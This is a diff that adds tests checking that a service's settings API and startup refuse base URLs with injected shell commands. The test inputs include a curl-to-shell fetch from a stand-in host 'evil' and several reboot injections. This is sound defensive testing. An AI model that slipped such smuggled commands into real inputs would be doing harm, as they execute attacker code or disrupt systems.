@@ -213,3 +213,25 @@ describe('console sessions', () => {
     }
   });
 });
+
+describe('a base URL that would make snippets run code', () => {
+  it.each(['http://nas.local:8420/;curl${IFS}evil|sh', 'http://nas.local:8420/$(reboot)', "http://nas.local:8420/'", 'http://nas.local:8420/a b', 'http://nas.local:8420/%0areboot'])(
+    '%j is refused by the settings and changes nothing',
+    async (base) => {
+      const before = (await (await s.api('/api/lubdub/settings')).json()) as { base_url: string };
+      const r = await s.api('/api/lubdub/settings', { method: 'POST', json: { base_url: base } });
+      expect(r.status).toBe(400);
+      expect(((await r.json()) as { error: string }).error).toMatch(/^json validation error: base_url must be http\(s\):\/\/host/);
+      expect(((await (await s.api('/api/lubdub/settings')).json()) as { base_url: string }).base_url).toBe(before.base_url);
+    },
+  );
+
+  it('given at start, stops the service with a one-line reason', async () => {
+    const dataDir = tempDir();
+    try {
+      await expect(serve({ dataDir, env: { LUBDUB_BASE_URL: 'http://nas.local:8420/`reboot`' }, timeoutMs: 15_000 })).rejects.toThrow(/LUBDUB_BASE_URL: must be http\(s\):\/\/host/);
+    } finally {
+      fs.rmSync(dataDir, { recursive: true, force: true });
+    }
+  });
+});
